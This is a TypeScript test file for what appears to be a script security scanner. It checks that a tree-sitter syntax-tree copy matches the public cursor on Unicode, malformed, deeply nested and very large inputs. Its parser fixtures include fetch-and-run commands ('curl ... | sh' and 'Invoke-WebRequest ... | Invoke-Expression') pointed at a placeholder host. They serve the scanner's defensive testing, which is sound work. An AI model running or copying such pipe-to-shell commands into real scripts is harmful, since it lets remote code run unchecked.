import { readFile } from "node:fs/promises";
import { join } from "node:path";
import type { Parser, Tree } from "@vscode/tree-sitter-wasm";
import { beforeAll, describe, expect, it } from "vitest";
import { createScriptAnalyzer, wasmDir } from "../src/node/grammars.js";
import { buildRuleSet } from "../src/scan/ruleset.js";
import { defaultConfig } from "../src/scan/scan-config.js";
import { fileKind } from "../src/scan/text/file-kind.js";
import { LineIndex } from "../src/scan/text/lines.js";
import type { TreeSitterScriptAnalyzer } from "../src/scripts/index.js";
import { directTreeCopy, enableDirectTreeCopy, type SNode, toSyntax } from "../src/scripts/syntax.js";

// The tree copy (src/scripts/syntax.ts) calls the runtime's cursor functions directly once
// src/node/grammars.ts has enabled it; these tests hold it to the public TreeCursor's copy, node for
// node, on the inputs where a copy could go wrong: non-ASCII text, syntax errors, deep nesting and
// files that hit the node cap.

type Runtime = typeof import("@vscode/tree-sitter-wasm");
const GRAMMAR = {
  python: "tree-sitter-python.wasm",
  javascript: "tree-sitter-javascript.wasm",
  typescript: "tree-sitter-typescript.wasm",
  bash: "tree-sitter-bash.wasm",
  powershell: "tree-sitter-powershell.wasm",
} as const;
type Lang = keyof typeof GRAMMAR;

let analyzer: TreeSitterScriptAnalyzer;
const parsers = {} as Record<Lang, Parser>;
/** The runtime's module (the options object grammars.ts gives Parser.init), for its heap size. */
let runtimeModule: { HEAP8: Int8Array } | undefined;

beforeAll(async () => {
  const mod = (await import("@vscode/tree-sitter-wasm")) as Runtime & { default?: Runtime };
  const ts = mod.default ?? mod;
  const init = ts.Parser.init.bind(ts.Parser);
  ts.Parser.init = (options?: Parameters<typeof ts.Parser.init>[0]) => {
    runtimeModule = options as unknown as typeof runtimeModule;
    return init(options);
  };
  // The analyzer initialises the runtime the way the scanner does; the parsers below share it.
  analyzer = await createScriptAnalyzer();
  const dir = await wasmDir();
  for (const [lang, file] of Object.entries(GRAMMAR)) {
    const parser = new ts.Parser();
    parser.setLanguage(await ts.Language.load(await readFile(join(dir, file))));
    parsers[lang as Lang] = parser;
  }
});

function parse(lang: Lang, source: string): Tree {
  const tree = parsers[lang].parse(source);
  if (!tree) throw new Error(`${lang}: no tree`);
  return tree;
}

/** Every node in document order as one line, without recursion (the deep cases would overflow it). */
function flatten(root: SNode): string[] {
  const out: string[] = [];
  const stack: [SNode, number][] = [[root, 0]];
  while (stack.length) {
    const [n, depth] = stack.pop()!;
    out.push(`${depth} ${n.type} ${n.isNamed} ${n.field} ${n.startIndex} ${n.endIndex} ${n.children.length}`);
    for (let i = n.children.length - 1; i >= 0; i--) stack.push([n.children[i]!, depth + 1]);
  }
  return out;
}

function depthOf(root: SNode): number {
  let max = 0;
  const stack: [SNode, number][] = [[root, 0]];
  while (stack.length) {
    const [n, d] = stack.pop()!;
    max = Math.max(max, d);
    for (const c of n.children) stack.push([c, d + 1]);
  }
  return max;
}

/** Copies `tree` both ways and checks the two copies are the same, node for node; returns the direct one. */
function copyBothWays(tree: Tree, maxNodes?: number, maxDepth?: number): SNode {
  try {
    const direct = toSyntax(tree, maxNodes, maxDepth);
    const viaPublic = toSyntax(tree, maxNodes, maxDepth, false);
    expect(flatten(direct)).toEqual(flatten(viaPublic));
    return direct;
  } finally {
    tree.delete();
  }
}

function* allNodes(root: SNode): Generator<SNode> {
  const stack = [root];
  while (stack.length) {
    const n = stack.pop()!;
    yield n;
    for (const c of n.children) stack.push(c);
  }
}

const SOURCES: Record<Lang, string> = {
  python: [
    "import os, subprocess",
    "def grüße(name: str = 'wörld') -> str:",
    "    '''Docstring with 日本語 and an emoji 🚀.'''",
    "    return f\"Hallo {name!r} — {os.environ.get('HOME')}\"",
    "class K(dict):",
    "    x = [i for i in range(3) if i % 2]",
    "subprocess.run(['echo', grüße()], check=True)",
    "def broken(:",
    "    pass",
  ].join("\n"),
  javascript: [
    "const { exec } = require('child_process');",
    "// ünïcödé comment 🙂",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: JavaScript source in a fixture
    "const s = `tpl ${'ö'.repeat(2)} 😀`;",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: JavaScript source in a fixture
    "exec(`curl ${process.env.URL}`, (e, out) => console.log(out));",
    "let x = (a, b) => { return a ?? b };",
    "if (x { broken",
  ].join("\r\n"),
  typescript: [
    "type T<K extends string> = Record<K, number>;",
    "export async function f(x: T<'é'>): Promise<void> { await fetch('https://example.test/😀'); }",
    "const y = <const>['a', 'b'];",
  ].join("\n"),
  bash: [
    "#!/bin/bash",
    'name="wörld 🌍"',
    "curl -s https://example.test/$name | sh",
    'for f in *.txt; do echo "$f"; done',
    "cat <<EOF\nheredoc ünïcode\nEOF",
    'if [ -z "$x" ; then',
  ].join("\n"),
  powershell: [
    "$name = 'wörld 🌍'",
    'Invoke-WebRequest -Uri "https://example.test/$name" | Invoke-Expression',
    'function Get-Thing([string]$p) { Write-Host "Grüße $p" }',
    "@( 1, 2 ",
  ].join("\n"),
};

describe("tree copy", () => {
  it("is switched to direct cursor calls when the scanner loads the runtime", () => {
    expect(directTreeCopy()).toBe(true);
  });

  for (const lang of Object.keys(SOURCES) as Lang[])
    it(`copies ${lang} (non-ASCII, CRLF, syntax errors) exactly as the public cursor does`, () => {
      const root = copyBothWays(parse(lang, SOURCES[lang]));
      expect(root.children.length).toBeGreaterThan(0);
      expect(root.endIndex).toBe(SOURCES[lang].length);
    });

  it("gives UTF-16 offsets: slicing the JS string yields the node's text, after emoji and accents", () => {
    const source = "s = '😀😀'\nnaïve = \"日本語\"\ngrüße(naïve, '🚀')\n";
    const root = copyBothWays(parse("python", source));
    const texts = [...allNodes(root)]
      .filter((n) => n.type === "identifier" || n.type === "string_content")
      .map((n) => source.slice(n.startIndex, n.endIndex))
      .sort();
    expect(texts).toEqual(["grüße", "naïve", "naïve", "s", "日本語", "😀😀", "🚀"].sort());
  });

  it("copies 20,000 nested brackets without overflowing the stack, and stops at maxDepth", () => {
    const n = 20_000;
    for (const [lang, source] of [
      ["python", `x = ${"[".repeat(n)}1${"]".repeat(n)}\n`],
      ["javascript", `f(${"(".repeat(n)}1${")".repeat(n)});`],
    ] as const) {
      const root = copyBothWays(parse(lang, source));
      expect(depthOf(root)).toBeLessThanOrEqual(512);
      expect(depthOf(root)).toBeGreaterThan(100);
      const shallow = copyBothWays(parse(lang, source), undefined, 40);
      expect(depthOf(shallow)).toBe(40);
    }
  });

  it("stops a huge file at maxNodes (both ways alike at 20,000)", () => {
    const lines: string[] = [];
    for (let i = 0; i < 12_000; i++)
      lines.push(`v${i} = call_${i % 7}(arg, 'ü${i}', [1, 2, 3], key=value_${i})`);
    const source = lines.join("\n");
    expect(source.length).toBeGreaterThan(512 * 1024);
    const tree = parse("python", source);
    try {
      // The default cap, direct only (the public cursor takes seconds on 300,000 nodes).
      expect([...allNodes(toSyntax(tree))].length).toBe(300_000);
    } finally {
      tree.delete();
    }
    const capped = copyBothWays(parse("python", source), 20_000);
    expect([...allNodes(capped)].length).toBe(20_000);
  });

  it("scans the deep and the huge cases end to end without throwing", () => {
    const n = 20_000;
    for (const [path, text] of [
      ["deep.py", `x = ${"[".repeat(n)}1${"]".repeat(n)}\nimport os\nos.system(x)\n`],
      ["deep.js", `require('child_process').exec(${"(".repeat(n)}'ls'${")".repeat(n)});`],
    ] as const) {
      const report = analyzer.analyzeDetailed(
        { path: `demo/${path}`, skillPath: path, kind: fileKind(path), text, lines: new LineIndex(text) },
        { ruleSet: buildRuleSet([]), config: defaultConfig(), isAllowedHost: () => false },
      );
      expect(report.language).toBeDefined();
      expect(report.skipped === undefined || report.skipped === "error").toBe(true);
    }
  });

  it("frees every cursor it opens: 100,000 copies leave the WASM heap its size", () => {
    const tree = parse("python", "x = f(1)\n");
    try {
      const before = runtimeModule!.HEAP8.length;
      // A cursor not freed keeps its stack (~330 bytes measured): 33 MB here, past the heap's free space.
      for (let i = 0; i < 100_000; i++) toSyntax(tree);
      expect(runtimeModule!.HEAP8.length).toBe(before);
    } finally {
      tree.delete();
    }
  });

  // Last: it switches the direct calls off for the rest of this file.
  it("falls back to the public cursor when the runtime lacks a cursor function", () => {
    expect(enableDirectTreeCopy({ _ts_tree_cursor_goto_first_child_wasm: () => 0 })).toBe(false);
    expect(directTreeCopy()).toBe(false);
    const root = copyBothWays(parse("python", SOURCES.python));
    expect(root.children.length).toBeGreaterThan(0);
  });
});
